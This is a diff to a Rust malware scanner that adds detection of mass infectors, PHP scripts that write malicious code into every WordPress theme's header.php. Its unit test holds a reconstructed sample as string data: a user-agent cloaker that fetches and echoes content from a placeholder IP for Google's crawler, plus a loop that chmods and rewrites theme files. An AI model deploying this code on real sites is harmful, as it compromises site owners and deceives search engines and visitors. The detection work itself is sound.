@@ -460,6 +460,17 @@ pub fn by_path(rel: &str) -> Vec<Hit> {
 /// Every sign in a file's bytes, weak ones included. `own_domains`: the account's domains (a
 /// redirect to one of them is not foreign). The flag says the file is a small script.
 pub fn by_content(name: &str, text: &[u8], own_domains: &[String]) -> (Vec<Hit>, bool) {
+    content(name, text, own_domains, Depth::File)
+}
+
+/// Whether the text being judged is a file, or PHP code a file writes into others.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Depth {
+    File,
+    Written,
+}
+
+fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Vec<Hit>, bool) {
     if is_conf(name) {
         let hits = conf::check(name, text, own_domains).into_iter().map(|h| conf_hit(text, h)).collect();
         return (hits, false);
@@ -490,7 +501,8 @@ pub fn by_content(name: &str, text: &[u8], own_domains: &[String]) -> (Vec<Hit>,
     let to_shape = shapes::may_match(text);
     // A page's own `<script>` blocks (a theme's header or footer is where injections go).
     let page_script = || script::in_page(text).map(added_script);
-    if !to_sink && !to_shape && !shapes::planted_may_match(text) {
+    let to_written = depth == Depth::File && shapes::written_code_may_match(text);
+    if !to_sink && !to_shape && !to_written && !shapes::planted_may_match(text) {
         return (defaced().into_iter().chain(page_script()).map(|s| sink_hit(text, s)).collect(), false);
     }
     let arena = php::Arena::new();
@@ -521,6 +533,14 @@ pub fn by_content(name: &str, text: &[u8], own_domains: &[String]) -> (Vec<Hit>,
     sinks.extend(found.into_iter().map(|s| taint::Sink { why: s.why, danger: s.danger, at: s.at }));
     sinks.extend(defaced());
     sinks.extend(page_script());
+    // A script that reads folders and writes files, holding PHP code that is itself malicious:
+    // a mass infector, whatever it writes that code into.
+    if to_written && let Some((at, code)) = shapes::written_code(&tokens) {
+        let (inner, _) = content("written.php", code, own_domains, Depth::Written);
+        if inner.iter().any(|h| h.danger >= Danger::High) {
+            sinks.push(taint::Sink { why: Why::InjectsHiddenCode, danger: Danger::High, at });
+        }
+    }
     // An application saving what its users send (behind its own login, in a file a visitor
     // cannot request, or in a class's method) is not a dropper; a class's method that mails
     // (a plugin's mail form) is not a spam script a visitor requests.
@@ -803,5 +823,28 @@ mod tests {
         let weak = format!("<?php {} eval($code);", "$a = 1; ".repeat(200));
         assert!(whys("lib/x.php", &weak).is_empty());
         assert_eq!(whys("wp-content/mu-plugins/x.php", &weak), [Why::EvalOfVariable, Why::WordPressAutoload]);
+    }
+
+    #[test]
+    fn a_mass_infector_writing_malicious_code_into_listed_folders_injects_it() {
+        // fresh15's `_201107010113.php`: a cloaker held in `$code`, written at the top of every
+        // theme's `header.php` found by reading the themes folder.
+        let cloaker = "<?php $ua = strtolower($_SERVER[HTTP_USER_AGENT]); if (strpos($ua, \"google\")) { \
+                       $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, \"http://203.0.113.7/cakes/?ua=$ua\"); \
+                       $r = curl_exec($ch); echo $r; } ?>";
+        let infector = |code: &str| {
+            format!(
+                "<?php\n$code = '{code}';\nforeach (scandir('wp-content/themes') as $dir) {{\n\
+                 $h = \"wp-content/themes/$dir/header.php\"; chmod($h, 0777);\n\
+                 $old = file_get_contents($h);\n{}$in = fopen($h, 'w'); fwrite($in, $code); fwrite($in, $old); fclose($in);\n}}\n",
+                "chmod('wp-content', 0777);\n".repeat(40)
+            )
+        };
+        assert!(whys("wp/_201107010113.php", &infector(cloaker)).contains(&Why::InjectsHiddenCode));
+        // Near-misses: a folder guard written into every folder, and the cloaker held but never
+        // written anywhere a folder read finds.
+        assert!(whys("wp-content/plugins/guard/guard.php", &infector("<?php // Silence is golden.")).is_empty());
+        let kept = format!("<?php\n$code = '{cloaker}';\nfile_put_contents('cache/x.txt', 'x');\n");
+        assert!(!whys("wp/cache.php", &kept).contains(&Why::InjectsHiddenCode));
     }
 }
